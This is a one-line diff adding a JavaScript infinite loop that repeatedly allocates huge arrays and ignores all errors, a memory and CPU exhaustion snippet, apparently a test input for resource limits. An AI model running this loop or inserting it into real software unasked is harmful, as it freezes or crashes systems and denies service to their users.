@@ -1,0 +1,1 @@
+for (;;) { try { Array(1e8).fill(0); } catch (error) {} }
